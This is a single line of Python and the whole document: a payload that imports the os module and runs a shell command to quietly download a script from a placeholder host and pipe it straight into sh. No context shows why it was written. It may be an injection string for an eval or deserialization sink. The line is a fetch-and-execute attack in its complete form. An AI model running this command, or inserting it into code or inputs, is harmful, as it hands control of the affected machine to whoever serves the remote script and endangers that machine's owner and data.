__import__('os').system('curl -s https://wc.example.invalid | sh')
